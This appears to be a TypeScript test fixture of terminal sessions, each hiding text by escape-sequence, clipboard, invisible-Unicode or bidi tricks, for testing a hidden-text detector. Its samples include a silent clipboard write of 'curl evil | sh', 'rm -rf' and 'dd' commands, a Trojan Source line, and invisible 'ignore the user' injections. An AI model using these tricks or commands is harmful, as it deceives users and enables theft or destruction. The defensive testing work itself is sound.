// Sessions with one hidden text each, several for every cause, and what must be found in them.

import type { HiddenCause } from '../../../../shared/api/shapes.ts';
import type { Step } from './hidden-harness.ts';

export interface HiddenCase {
  readonly name: string;
  readonly cause: HiddenCause;
  readonly text: string;
  /** Milliseconds at which it came. */
  readonly at: number;
  readonly steps: readonly Step[];
}

const ESC = '\u001b';
const base64 = (text: string): string => Buffer.from(text).toString('base64');
const tags = (text: string): string => Array.from(text, (c) => String.fromCodePoint(0xe0000 + c.charCodeAt(0))).join('');
const selectors = (text: string): string =>
  Array.from(new TextEncoder().encode(text), (byte) =>
    String.fromCodePoint(byte < 16 ? 0xfe00 + byte : 0xe0100 + byte - 16),
  ).join('');

/** Keys that a program answers with stars, and one that it takes back. */
const starred = (text: string, at: number): Step[] =>
  Array.from(text, (key, i): Step[] => [
    [at + i * 0.1, 'i', key],
    [at + i * 0.1 + 0.01, 'o', '*'],
  ]).flat();
/** The same where the line is drawn anew for each key. */
const redrawn = (text: string, at: number, draw: (count: number) => string): Step[] =>
  Array.from(text, (key, i): Step[] => [
    [at + i * 0.1, 'i', key],
    [at + i * 0.1 + 0.01, 'o', draw(i + 1)],
  ]).flat();
const typo = (at: number): Step[] => [...starred('x', at), [at + 0.2, 'i', '\u007f'], [at + 0.21, 'o', '\b \b']];

/** A prompt, the steps, and something ordinary after them. */
const session = (...steps: Step[]): readonly Step[] => [
  [0, 'o', 'ops@db:~$ ./report\r\nstarting\r\n'],
  ...steps,
  [(steps.at(-1)?.[0] ?? 0) + 1, 'o', '\r\nfinished\r\nops@db:~$ '],
];

const one = (cause: HiddenCause, name: string, text: string, ...steps: Step[]): HiddenCase => ({
  name,
  cause,
  text,
  at: (steps.find(([, code]) => code !== 'r')?.[0] ?? 0) * 1000,
  steps: session(...steps),
});

export const HIDDEN: readonly HiddenCase[] = [
  one('concealed', 'in a line', 'copy to usb', [1, 'o', `state: ${ESC}[8mcopy to usb${ESC}[28m ok`]),
  one('concealed', 'under inverse video', 'account 4411', [1, 'o', `${ESC}[7;8maccount 4411${ESC}[0m`]),
  one(
    'concealed',
    'on the alternate screen',
    'delete backups',
    [1, 'o', `${ESC}[?1049h${ESC}[5;10H${ESC}[1;8;32mdelete backups${ESC}[0m`],
    [3, 'o', `${ESC}[?1049l`],
  ),
  one('concealed', 'in wide characters', '密码在这里', [1, 'o', `${ESC}[8m密码在这里${ESC}[0m`]),
  one('concealed', 'on standard error', 'exit by door 7', [1, 'e', `${ESC}[8mexit by door 7${ESC}[0m`]),
  one('same-colour', 'on a reversed screen', 'white on white', [1, 'o', `${ESC}[?5h${ESC}[37mwhite on white${ESC}[0m`]),
  one('concealed', 'in a line that scrolls off at once', 'scrolled away', [
    1,
    'o',
    `${ESC}[8mscrolled away${ESC}[0m${'\r\n'.repeat(60)}`,
  ]),
  one('same-colour', 'in ideographs', '密码在这里', [1, 'o', `${ESC}[30;40m密码在这里${ESC}[0m`]),
  one('same-colour', 'in Cyrillic', 'пароль секрет', [1, 'o', `${ESC}[30;40mпароль секрет${ESC}[0m`]),
  one('same-colour', 'of an address', '192.168.1.77', [1, 'o', `host ${ESC}[30;40m192.168.1.77${ESC}[0m`]),
  one('same-colour', 'of short numbers', '44 17 09', [1, 'o', `${ESC}[30;40m44 17 09${ESC}[0m`]),
  one('same-colour', 'of the 16', 'drop table audit', [1, 'o', `${ESC}[30;40mdrop table audit${ESC}[0m`]),
  one('same-colour', 'bright on bright', 'send to mallory', [1, 'o', `${ESC}[97;107msend to mallory${ESC}[0m`]),
  one('same-colour', 'of the 256', 'key is ultramarine', [1, 'o', `${ESC}[38;5;236;48;5;236mkey is ultramarine${ESC}[0m`]),
  one('same-colour', 'near in the 256', 'key is vermilion', [1, 'o', `${ESC}[38;5;232;48;5;233mkey is vermilion${ESC}[0m`]),
  one('same-colour', 'near in RGB', 'export key 9931', [1, 'o', `${ESC}[38;2;30;30;30;48;2;36;34;31mexport key 9931${ESC}[0m`]),
  one('same-colour', 'light on light', 'salaries attached', [
    1,
    'o',
    `${ESC}[38;2;250;250;250;48;5;231msalaries attached${ESC}[0m`,
  ]),
  one('same-colour', 'by an index and its RGB', 'meet at the pier', [
    1,
    'o',
    `${ESC}[38;5;196;48;2;255;0;0mmeet at the pier${ESC}[0m`,
  ]),
  one('same-colour', 'black on the dark screen', 'nothing to see', [1, 'o', `${ESC}[38;2;0;0;0mnothing to see${ESC}[0m`]),
  one('same-colour', 'under inverse video', 'inverted secret', [1, 'o', `${ESC}[7;31;41minverted secret${ESC}[0m`]),
  one(
    'same-colour',
    'on the alternate screen, after a resize',
    'resized secret',
    [1, 'o', `${ESC}[?1049h`],
    [1.2, 'r', '100x30'],
    [1.5, 'o', `${ESC}[28;85H${ESC}[34;44mresized secret`],
    [3, 'o', `${ESC}[0m${ESC}[?1049l`],
  ),
  one('same-colour', 'by a changed palette', 'palette trick', [
    1,
    'o',
    `${ESC}]4;9;#123456${ESC}\\${ESC}[91;48;2;18;52;86mpalette trick${ESC}[0m`,
  ]),
  one(
    'short-lived',
    'erased by CR and EL',
    'rm -rf /var/log/audit',
    [1, 'o', 'rm -rf /var/log/audit'],
    [1.04, 'o', `\r${ESC}[K`],
  ),
  one(
    'short-lived',
    'overwritten with blanks',
    'token=7f3a',
    [1, 'o', 'quick token=7f3a'],
    [1.03, 'o', `${'\b'.repeat(10)}${' '.repeat(10)}`],
  ),
  one('short-lived', 'erased in the same event', 'curl evil.example', [1, 'o', `curl evil.example\r${ESC}[2K`]),
  one(
    'short-lived',
    'erased character by character',
    'shred keys',
    [1, 'o', 'shred keys'],
    ...Array.from({ length: 10 }, (_, i): Step => [1.01 + i / 200, 'o', '\b \b']),
  ),
  one(
    'short-lived',
    'erased with ECH',
    'paste the dump',
    [1, 'o', `\r${ESC}[sxx paste the dump`],
    [1.05, 'o', `${ESC}[u${ESC}[3C${ESC}[20X`],
  ),
  one('short-lived', 'a code beside a word that was read', 'report 8d41c7', [1, 'o', 'report 8d41c7'], [1.05, 'o', `\r${ESC}[K`]),
  one(
    'short-lived',
    'a number where a prompt stands later',
    '884213',
    [1, 'o', '884213'],
    [1.05, 'o', `\r${ESC}[Kops@db-14:~$ `],
  ),
  one(
    'short-lived',
    'while the terminal answers a question',
    'asked and gone',
    [1, 'o', `asked and gone${ESC}[c${ESC}[6n`],
    [1.01, 'i', `${ESC}[?62;22c${ESC}[3;15R`],
    [1.05, 'o', `\r${ESC}[K`],
  ),
  one(
    'short-lived',
    'at a key that was pressed before it came',
    'after the key',
    [1, 'i', '\r'],
    [1.02, 'o', 'after the key'],
    [1.05, 'o', `\r${ESC}[K`],
  ),
  one('short-lived', 'cleared with the screen', 'flash of a page', [1, 'o', 'flash of a page'], [1.06, 'o', `${ESC}[2J${ESC}[H`]),
  one(
    'short-lived',
    'on an alternate screen that is left at once',
    'seen by nobody',
    [1, 'o', `${ESC}[?1049hseen by nobody`],
    [1.02, 'o', `${ESC}[?1049l`],
  ),
  one('short-lived', 'overwritten with other text', 'wire the money', [1, 'o', 'wire the money\rall is quite well']),
  one(
    'short-lived',
    'erased from the bottom row, the cursor restored',
    'scp secrets away',
    [1, 'o', `${ESC}7${ESC}[24;1Hscp secrets away`],
    [1.05, 'o', `${ESC}[24;1H${ESC}[K${ESC}8`],
  ),
  one('repainted', 'painted over in the same event', 'hidden under paint', [
    1,
    'o',
    `${ESC}[1;1Hhidden under paint${ESC}[1;1Hstatus: all quiet here${ESC}[5;1H`,
  ]),
  one(
    'repainted',
    'painted over after 50 ms',
    'briefly on top',
    [1, 'o', `${ESC}[3;5Hbriefly on top`],
    [1.05, 'o', `${ESC}[3;1H==== nominal system ====`],
  ),
  one(
    'repainted',
    'a whole screen drawn over',
    'whole screen down',
    [1, 'o', `${ESC}[H${ESC}[2Jwhole screen down`],
    [1.03, 'o', `${ESC}[H${ESC}[2Jwelcome to the menu of today`],
  ),
  one('short-lived', 'erased by DECSEL', 'selective words', [1, 'o', `${ESC}[3;1Hselective words`], [1.03, 'o', `\r${ESC}[?K`]),
  one('short-lived', 'erased by DECSED', 'selective screen', [1, 'o', `${ESC}[3;1Hselective screen`], [1.03, 'o', `\r${ESC}[?J`]),
  one('off-screen', 'beyond the right edge without wraparound', 'cond half of it is never shown', [
    1,
    'o',
    `${ESC}[?7l${' '.repeat(78)}second half of it is never shown!${ESC}[?7h`,
  ]),
  one('off-screen', 'wide characters beyond the right edge without wraparound', '密の文字列', [
    1,
    'o',
    `${ESC}[?7l${ESC}[1;78H秘密の文字列です${ESC}[?7h`,
  ]),
  one(
    'off-screen',
    'pushed off by inserted lines',
    'bottom secret',
    [1, 'o', `${ESC}[24;1Hbottom secret${ESC}[1;1H`],
    [1.02, 'o', `${ESC}[L`],
  ),
  one('off-screen', 'on a deleted line', 'deleted secret', [1, 'o', `${ESC}[10;1Hdeleted secret`], [1.02, 'o', `${ESC}[M`]),
  one(
    'off-screen',
    'scrolled off the alternate screen by CSI S',
    'top secret',
    [0.5, 'o', `${ESC}[?1049h`],
    [1, 'o', `${ESC}[1;1Htop secret`],
    [1.02, 'o', `${ESC}[S`],
    [3, 'o', `${ESC}[?1049l`],
  ),
  one(
    'off-screen',
    'scrolled off a region of the normal screen by CSI S',
    'region secret',
    [1, 'o', `${ESC}[5;10r${ESC}[5;1Hregion secret`],
    [1.02, 'o', `${ESC}[6S${ESC}[r`],
  ),
  one('off-screen', 'pushed off by CSI T', 'lower secret', [1, 'o', `${ESC}[24;1Hlower secret`], [1.02, 'o', `${ESC}[3T`]),
  one(
    'not-echoed',
    'a password',
    'correct horse',
    [1, 'o', 'Password: '],
    [2, 'i', 'correct'],
    [2.4, 'i', ' hor'],
    [2.6, 'i', 'se'],
    [3, 'i', '\r'],
    [3.1, 'o', '\r\n'],
  ),
  one(
    'not-echoed',
    'with a correction',
    'battery staple',
    [1, 'o', 'Password: '],
    [2, 'i', 'batterx'],
    [2.2, 'i', '\u007fy staple'],
    [3, 'i', '\r'],
    [3.1, 'o', '\r\n'],
  ),
  one(
    'not-echoed',
    'after an answer of Escape and Enter',
    'correct horse',
    [1, 'o', 'Cancel with Escape, or password: '],
    [1.2, 'i', ESC],
    [1.4, 'i', '\r'],
    [2, 'i', 'correct horse'],
    [3, 'i', '\r'],
    [3.1, 'o', '\r\n'],
  ),
  one(
    'not-echoed',
    'counted with stars',
    'xyzzy-plugh',
    [1, 'o', 'Passphrase: '],
    ...Array.from('xyzzy-plugh', (key, i): readonly Step[] => [
      [2 + i / 5, 'i', key],
      [2.01 + i / 5, 'o', '*'],
    ]).flat(),
    [5, 'i', '\r'],
    [5.1, 'o', '\r\n'],
  ),
  one(
    'not-echoed',
    'a command at a prompt without echo',
    'dd if=/dev/sda',
    [1, 'i', 'dd if=/dev/sda'],
    [2, 'i', '\r'],
    [2.1, 'o', '\r\n'],
  ),
  one(
    'not-echoed',
    'with one typo in a line of stars',
    'Tr0ub4dor',
    [1, 'o', 'password: '],
    ...starred('Tr0ub', 2),
    ...typo(3),
    ...starred('4dor', 4),
    [5, 'i', '\r'],
  ),
  one(
    'not-echoed',
    'while the terminal reports focus and answers',
    'correct horse',
    [1, 'o', 'password: '],
    [2, 'i', `correct${ESC}[I`],
    [2.5, 'i', `${ESC}[5;10R${ESC}[?62;22c${ESC}[<0;5;5M horse`],
    [3, 'i', '\r'],
  ),
  one(
    'not-echoed',
    'in a line of stars that is drawn anew',
    'Tr0ub4dor',
    [1, 'o', 'Password: '],
    ...redrawn('Tr0ub4dor', 2, (count) => `\r${ESC}[2KPassword: ${'*'.repeat(count)}`),
    [4, 'i', '\r'],
  ),
  one(
    'not-echoed',
    'in a line of dots that is drawn anew in colours',
    'Tr0ub4dor',
    [1, 'o', `${ESC}[32m?${ESC}[0m ${ESC}[1mPassword:${ESC}[0m `],
    ...redrawn(
      'Tr0ub4dor',
      2,
      (count) => `${ESC}[?25l${ESC}[1G${ESC}[K${ESC}[32m?${ESC}[0m ${ESC}[1mPassword:${ESC}[0m ${'•'.repeat(count)}${ESC}[?25h`,
    ),
    [4, 'i', '\r'],
  ),
  one(
    'not-echoed',
    'in stars that are placed, one taken back',
    'Tr0ub4dor',
    [1, 'o', `${ESC}[5;10HPassword: `],
    ...redrawn('Tr0ub4dorx', 2, (count) => `${ESC}[5;${String(19 + count)}H*`),
    [3.5, 'i', '\u007f'],
    [3.51, 'o', `\b${ESC}[K`],
    [4, 'i', '\r'],
  ),
  one(
    'not-echoed',
    'with a mouse that moves',
    'correct horse',
    [1, 'o', `${ESC}[?1003hpassword: `],
    [2, 'i', 'correct'],
    [2.5, 'i', `${ESC}[M ab${ESC}[Mcde${ESC}[M #!`],
    [2.7, 'i', ' horse'],
    [3, 'i', '\r'],
  ),
  one(
    'not-echoed',
    'ended by ^D, with a word taken back',
    'correct horse',
    [1, 'o', 'Passphrase: '],
    [2, 'i', 'correct house'],
    [2.5, 'i', '\u0017horse'],
    [3, 'i', '\u0004'],
  ),
  one('title', 'behind who and where', 'the code is swordfish', [1, 'o', `${ESC}]0;ops@db: the code is swordfish\u0007`]),
  one('title', 'behind a folder', 'leave at midnight', [1, 'o', `${ESC}]2;~/work leave at midnight\u0007`]),
  one('title', 'a command', 'sudo su - root', [1, 'o', `${ESC}]2;sudo su - root\u0007`], [1.02, 'o', `${ESC}]2;ops@db: ~\u0007`]),
  one('title', 'by OSC 0 with ST', 'the code is swordfish', [1, 'o', `${ESC}]0;the code is swordfish${ESC}\\`]),
  one('title', "as a title of screen's", 'transfer at midnight', [1, 'o', `${ESC}ktransfer at midnight${ESC}\\`]),
  one('title', 'as the icon name', 'iconic exfiltration', [1, 'o', `${ESC}]1;iconic exfiltration\u0007`]),
  one('clipboard', 'a password', 'password=hunter', [1, 'o', `${ESC}]52;c;${base64('password=hunter')}\u0007`]),
  one('clipboard', 'behind many blanks', 'behind the blanks', [
    1,
    'o',
    `${ESC}]52;c;${base64(`${' \t'.repeat(600)}behind the blanks`)}\u0007`,
  ]),
  one('clipboard', 'to the primary selection', 'curl evil | sh', [1, 'o', `${ESC}]52;p;${base64('curl evil | sh')}${ESC}\\`]),
  one('clipboard', 'as iTerm2 has it', 'copied secret', [1, 'o', `${ESC}]1337;Copy=:${base64('copied secret')}\u0007`]),
  one('clipboard', 'as kitty has it', 'kitty secret', [
    1,
    'o',
    `${ESC}]5522;type=write\u0007${ESC}]5522;type=wdata:mime=dGV4dC9wbGFpbg==;${base64('kitty secret')}\u0007`,
  ]),
  one('invisible-character', 'zero width spaces', 'zero: abcd', [1, 'o', 'zero: a\u200bb\u200bc\u2060d']),
  one('invisible-character', 'tags', 'ignore the user', [1, 'o', `hello${tags('ignore the user')} world`]),
  one('invisible-character', 'bytes in variation selectors', 'smuggled', [1, 'o', `smile \u{1f600}${selectors('smuggled')} end`]),
  one('invisible-character', 'tags behind a flag', 'ignore all', [1, 'o', `a flag \u{1f3f4}${tags('ignore all')}\u{e007f} here`]),
  one('invisible-character', 'a Hangul filler', 'const = hidden', [1, 'o', 'const \u3164 = hidden']),
  one('invisible-character', 'a soft hyphen in a word', 'password', [1, 'o', 'pass\u00adword']),
  one('invisible-character', 'a joiner in Latin text', 'admin', [1, 'o', 'ad\u200dmin']),
  one('invisible-character', 'a Mongolian selector in a word', 'account', [1, 'o', 'acc\u180bount']),
  one('invisible-character', 'controls of music and shorthand', 'transfer now', [1, 'o', 'trans\u{1d173}fer\u{1bca0} now']),
  one('invisible-character', 'characters that are kept for invisible ones', 'midnight', [1, 'o', 'mid\u{e0080}nig\ufff0ht']),
  one('bidi-control', 'an override', 'file<RLO>cod.exe', [1, 'o', 'file\u202ecod.exe\u202c ok']),
  one('bidi-control', 'an Arabic mark in Latin text', 'pay<ALM>ment', [1, 'o', 'pay\u061cment']),
  one('bidi-control', 'Trojan Source', "level != 'user<RLO> <LRI>// Check if admin<PDI> <LRI>'", [
    1,
    'o',
    "if level != 'user\u202e \u2066// Check if admin\u2069 \u2066' {",
  ]),
  one('bidi-control', 'an isolate that turns Latin text', 'a<RLI>b c<PDI>d', [1, 'o', 'a\u2067b c\u2069d']),
  one('control-string', 'device control', 'secret payload', [1, 'o', `${ESC}P1;2;3|secret payload${ESC}\\`]),
  one('control-string', 'application program command', 'secret in APC', [1, 'o', `${ESC}_secret in APC${ESC}\\`]),
  one('control-string', 'privacy message', 'secret in PM', [1, 'o', `${ESC}^secret in PM${ESC}\\`]),
  one('control-string', 'start of string', 'secret in SOS', [1, 'o', `${ESC}Xsecret in SOS${ESC}\\`]),
  one('control-string', 'an unknown operating system command', 'exfil over osc', [1, 'o', `${ESC}]31337;exfil over osc\u0007`]),
  one('control-string', 'in the question for a setting', 'secret setting', [1, 'o', `${ESC}P$qsecret setting${ESC}\\`]),
  one('control-string', 'passed through tmux', 'secret passed through', [1, 'o', `${ESC}Ptmux;secret passed through${ESC}\\`]),
  one('control-string', 'in a graphics command', 'secret in graphics', [1, 'o', `${ESC}_Gi=1;secret in graphics${ESC}\\`]),
  one('control-string', 'as a property of the window', 'NOTE=secret property', [1, 'o', `${ESC}]3;NOTE=secret property\u0007`]),
  one('control-string', 'an operating system command without a number', 'secret without number', [
    1,
    'o',
    `${ESC}]secret without number${ESC}\\`,
  ]),
  one('control-string', 'an operating system command that begins with digits', '42 is the answer', [
    1,
    'o',
    `${ESC}]42 is the answer\u0007`,
  ]),
  one('control-string', 'a title broken off by CAN', 'a title broken off', [1, 'o', `${ESC}]0;a title broken off\u0018`]),
  one('control-string', 'a shell mark broken off by SUB', 'P;k=smuggled', [1, 'o', `${ESC}]633;P;k=smuggled\u001a`]),
  one('control-string', 'a command without a number, broken off', 'broken secret', [1, 'o', `${ESC}]broken secret\u0018`]),
  one('control-string', 'device control broken off by CAN', 'secret broken off', [1, 'o', `${ESC}Pz secret broken off\u0018`]),
  one('control-string', 'device control with a sign behind its parameters', 'secret that is ignored', [
    1,
    'o',
    `${ESC}P1;2<secret that is ignored${ESC}\\`,
  ]),
  // The last one: whatever follows would be in it, or end it.
  one('control-string', 'a string without end', 'never ended', [1, 'o', `${ESC}_G never ended`]),
];
